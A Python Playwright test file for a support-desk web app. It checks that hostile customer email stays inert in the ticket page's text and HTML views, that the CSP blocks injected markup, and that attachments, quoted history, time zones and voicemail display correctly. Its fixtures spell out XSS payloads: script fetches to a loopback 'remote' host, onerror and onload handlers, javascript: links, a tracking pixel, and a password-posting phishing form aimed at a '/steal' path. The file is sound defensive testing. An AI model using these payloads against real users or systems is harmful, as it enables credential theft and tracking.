"""Customer content on the ticket page, in a real browser (Debian's Chromium via Playwright).

Hostile mail stays inert in both the text and the HTML view: no dialog fires, no form
submits, and a "remote" server on loopback (another origin, so neither the sanitiser nor the
CSP lets it in) never hears from the staff browser. Attachments download, quoted history is
folded, a voicemail shows its transcript and recording link, and message times are shown in
the viewer's zone."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from gateway.app import Gateway

from ..gateway.gateway_harness import mail, query, send, settle
from ..voice.conftest import fake_twilio, oncall_table, twilio_env  # noqa: F401 (fixtures)
from ..voice.fake_twilio import FakeTwilio
from ..voice.phone_harness import Desk, running_desk, sids
from .conftest import CHROMIUM_ARGS, add_staff, chromium_or_skip, sign_in
from .test_web_ticket_http import QUOTED, hostile_mail, with_attachment

GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


class Remote:
    """A web server on loopback standing in for a tracker's host: it records every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.base = ""

    async def handle(self, request: web.Request) -> web.Response:
        self.requests.append(f"{request.method} {request.path_qs}")
        return web.Response(body=GIF, content_type="image/gif")


@pytest.fixture
async def remote() -> AsyncIterator[Remote]:
    server = Remote()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", server.handle)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    host, port = runner.addresses[0][:2]
    server.base = f"http://{host}:{port}"
    try:
        yield server
    finally:
        await runner.cleanup()


def hostile(remote: str) -> EmailMessage:
    html = f"""<html><head>
<style>body {{ background: url({remote}/style-tag.png) }}</style>
<link rel="stylesheet" href="{remote}/sheet.css">
<meta http-equiv="refresh" content="0;url={remote}/refresh">
<script>alert("script tag"); fetch("{remote}/script-fetch")</script>
</head><body onload="alert('onload')">
<p style="background-image: url({remote}/style-attr.png)">Please look at our invoice.</p>
<img src=x onerror="alert('onerror')">
<img src="{remote}/tracker.gif?who=pat" alt="ACME logo" width="1" height="1">
<form action="{remote}/steal" method="post"><input name="password" value="hunter2">
<button type="submit">Verify your account</button></form>
<a href="javascript:alert('javascript link')">Open the report</a>
<iframe src="{remote}/frame"></iframe>
<svg><image href="{remote}/svg-image.png"/></svg>
</body></html>"""
    message = EmailMessage()
    message["From"] = "Mallory <mallory@example.com>"
    message["To"] = "support@localhost"
    message["Subject"] = "Invoice <script>alert('subject')</script>"
    message.set_content(f"Please look at our invoice. <script>alert('text')</script> {remote}/x")
    message.add_alternative(html, subtype="html")
    return message


async def test_hostile_mail_is_inert_in_text_and_html_view(
    page: Any, gateway: Gateway, remote: Remote
) -> None:
    from playwright.async_api import expect

    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    submitted: list[str] = []
    page.on("request", lambda r: submitted.append(r.url) if r.method == "POST" else None)
    await send(gateway, hostile(remote.base), sender="mallory@example.com")
    await settle(gateway)
    n = int(query(gateway, "SELECT MAX(number) FROM tickets")[0][0])
    await sign_in(page)
    await page.wait_for_url(re.compile(r"/$"))
    await page.goto(f"/tickets/{n}")
    body = page.locator("article.message.in pre.body").first
    await expect(body).to_contain_text("<script>alert('text')</script>")  # text, shown as text

    await page.get_by_role("link", name=re.compile("Show HTML")).click()
    await page.wait_for_url(re.compile(r"view=html"))
    html = page.locator("article.message.in .html-body")
    await expect(html).to_contain_text("Please look at our invoice.")
    await expect(html.locator(".blocked-image")).to_have_count(2)
    await expect(html.locator(".blocked-image").nth(1)).to_have_text(
        "[remote image blocked (127.0.0.1): ACME logo]"
    )
    assert await html.locator("script, style, link, img, form, input, iframe, svg").count() == 0
    assert await html.locator("[style], [onload], [onerror], [onclick]").count() == 0
    # The form's button is only text now; the javascript: link has no target left.
    await expect(html).to_contain_text("Verify your account")
    await page.keyboard.press("Enter")
    link = html.get_by_text("Open the report")
    assert await link.get_attribute("href") is None
    await link.click()
    await page.wait_for_load_state("networkidle")
    assert await page.evaluate("getComputedStyle(document.body).backgroundImage") == "none"

    assert dialogs == []
    assert remote.requests == []
    assert [url for url in submitted if "/steal" in url or remote.base in url] == []
    assert "view=html" in page.url  # nothing navigated away


async def test_the_csp_is_a_second_wall_behind_the_sanitiser(
    page: Any, gateway: Gateway, remote: Remote
) -> None:
    """Markup that got past the sanitiser still could not run or load: the browser's CSP."""
    await send(gateway, mail())
    await settle(gateway)
    n = int(query(gateway, "SELECT MAX(number) FROM tickets")[0][0])
    await sign_in(page)
    await page.wait_for_url(re.compile(r"/$"))
    await page.goto(f"/tickets/{n}")
    violations = await page.evaluate(
        """async (remote) => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
            const main = document.querySelector("main");
            main.insertAdjacentHTML("beforeend",
                `<img src="x" onerror="window.ran = 'onerror'">` +
                `<img src="${remote}/csp-pixel.gif">` +
                `<a id="js" href="javascript:window.ran='link'">x</a>`);
            const script = document.createElement("script");
            script.textContent = "window.ran = 'inline script'";
            main.appendChild(script);
            document.getElementById("js").click();
            await new Promise((resolve) => setTimeout(resolve, 500));
            return {ran: window.ran || null, seen: seen.sort()};
        }""",
        remote.base,
    )
    assert violations["ran"] is None
    assert {"img-src", "script-src-attr", "script-src-elem"} <= set(violations["seen"])
    assert remote.requests == []


async def test_an_inline_image_of_the_mail_itself_is_shown(page: Any, gateway: Gateway) -> None:
    from playwright.async_api import expect

    await send(gateway, hostile_mail())
    await settle(gateway)
    n = int(query(gateway, "SELECT MAX(number) FROM tickets")[0][0])
    await sign_in(page)
    await page.wait_for_url(re.compile(r"/$"))
    await page.goto(f"/tickets/{n}?view=html")
    logo = page.locator("article.message.in .html-body img")
    await expect(logo).to_have_attribute("alt", "logo")
    await expect(logo).to_have_js_property("complete", True)
    assert await logo.evaluate("img => img.naturalWidth") == 1  # decoded: served from our route
    await expect(page.locator(".blocked-image")).to_have_text("[remote image blocked (127.0.0.1)]")


async def test_quoted_history_is_folded_until_asked_for(page: Any, gateway: Gateway) -> None:
    from playwright.async_api import expect

    message = mail(subject="Still broken", body=QUOTED)
    message.add_alternative(
        "<p>It is still broken after the restart.</p><p>On Mon, Acme Support wrote:</p>"
        "<blockquote>Please restart the phone system.</blockquote>",
        subtype="html",
    )
    await send(gateway, message)
    await settle(gateway)
    n = int(query(gateway, "SELECT MAX(number) FROM tickets")[0][0])
    await sign_in(page)
    await page.wait_for_url(re.compile(r"/$"))
    await page.goto(f"/tickets/{n}")
    message = page.locator("article.message.in")
    await expect(message.locator("pre.body").first).to_have_text(
        "It is still broken after the restart."
    )
    history = message.get_by_text("> Please restart the phone system.")
    signature = message.get_by_text("Example Corp, 1 Long Street")
    await expect(history).to_be_hidden()
    await expect(signature).to_be_hidden()
    await message.get_by_text(re.compile("Show the whole message")).click()
    await expect(history).to_be_visible()
    await expect(signature).to_be_visible()

    await page.goto(f"/tickets/{n}?view=html")
    quoted = message.locator(".html-body blockquote")
    await expect(message.locator(".html-body")).to_contain_text("still broken after the restart")
    await expect(quoted).to_be_hidden()
    await message.get_by_text("Show the quoted history").click()
    await expect(quoted).to_have_text("Please restart the phone system.")
    await expect(quoted).to_be_visible()


async def test_an_attachment_downloads_and_is_never_rendered(
    page: Any, gateway: Gateway, tmp_path: Path
) -> None:
    from playwright.async_api import expect

    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await send(gateway, with_attachment())
    await settle(gateway)
    n = int(query(gateway, "SELECT MAX(number) FROM tickets")[0][0])
    await sign_in(page)
    await page.wait_for_url(re.compile(r"/$"))
    await page.goto(f"/tickets/{n}")
    item = page.locator("ul.attachments li")
    await expect(item).to_contain_text("Prüfbericht _final_.html")
    await expect(item).to_contain_text("text/html, 37 bytes")
    async with page.expect_download() as info:
        await item.get_by_role("link").click()
    download = await info.value
    assert download.suggested_filename == "Prüfbericht _final_.html"
    target = tmp_path / "saved.html"
    await download.save_as(target)
    assert target.read_bytes() == b"<script>alert('in the file')</script>"
    # Even opened directly, the file is a download, not a page of our origin.
    response = await page.request.get(await item.get_by_role("link").get_attribute("href"))
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["content-type"] == "application/octet-stream"
    assert re.search(rf"/tickets/{n}$", page.url)
    assert dialogs == []


async def test_message_times_are_shown_in_the_viewers_zone(
    browser: Any, base_url: str, gateway: Gateway
) -> None:
    from playwright.async_api import expect

    await send(gateway, mail())
    await settle(gateway)
    n = int(query(gateway, "SELECT MAX(number) FROM tickets")[0][0])
    context = await browser.new_context(base_url=base_url, timezone_id="Asia/Tokyo", locale="en-GB")
    try:
        page = await context.new_page()
        await sign_in(page)
        await page.wait_for_url(re.compile(r"/$"))
        await page.goto(f"/tickets/{n}")
        when = page.locator("article.message time.viewer-zone").first
        await expect(when).to_have_attribute("data-zone", "viewer")
        # Received Saturday 15:00 UTC: 00:00 on Sunday in Tokyo; the policy's zone stays the tooltip.
        await expect(when).to_have_text(re.compile(r"^Sun 22 Nov 2026 00:00 (GMT\+9|JST)$"))
        title = await when.get_attribute("title")
        assert title and "Sat 21 Nov 2026" in title
    finally:
        await context.close()


# -- voicemail ----------------------------------------------------------------------------


@pytest.fixture
async def phone_desk(
    tmp_path: Path,
    oncall_table: dict[str, Any],  # noqa: F811
    fake_twilio: FakeTwilio,  # noqa: F811
    twilio_env: None,  # noqa: F811
) -> AsyncIterator[Desk]:
    async with running_desk(tmp_path, oncall_table, fake_twilio) as desk:
        await add_staff(desk.gw, "agent@example.com")
        yield desk


async def test_voicemail_shows_its_transcript_and_recording_link(phone_desk: Desk) -> None:
    from playwright.async_api import async_playwright, expect

    executable = chromium_or_skip()
    heard = await phone_desk.voicemail(1, "Our PBX lost every trunk at 3 am.")
    waiting = await phone_desk.voicemail(2, None)
    _, port = phone_desk.gw.http_address
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        try:
            # The desk's public URL is https (Secure cookies): localhost is a secure context.
            context = await browser.new_context(base_url=f"http://localhost:{port}")
            page = await context.new_page()
            await sign_in(page)
            await page.wait_for_url(re.compile(r"/$"))
            await page.goto(f"/tickets/{heard}")
            voicemail = page.locator("article.message .voicemail")
            await expect(voicemail).to_contain_text("Transcript")
            await expect(voicemail).to_contain_text("Our PBX lost every trunk at 3 am.")
            link = voicemail.get_by_role("link", name="Listen to the recording")
            recording = f"https://api.twilio.com/Recordings/{sids('RE', 1)}"
            await expect(link).to_have_attribute("href", recording)
            await expect(link).to_have_attribute("target", "_blank")
            await expect(link).to_have_attribute("rel", re.compile(r"\bnoreferrer\b"))
            await page.goto(f"/tickets/{waiting}")
            await expect(voicemail).to_contain_text("Transcription pending.")
            await expect(
                voicemail.get_by_role("link", name="Listen to the recording")
            ).to_be_visible()
        finally:
            await browser.close()
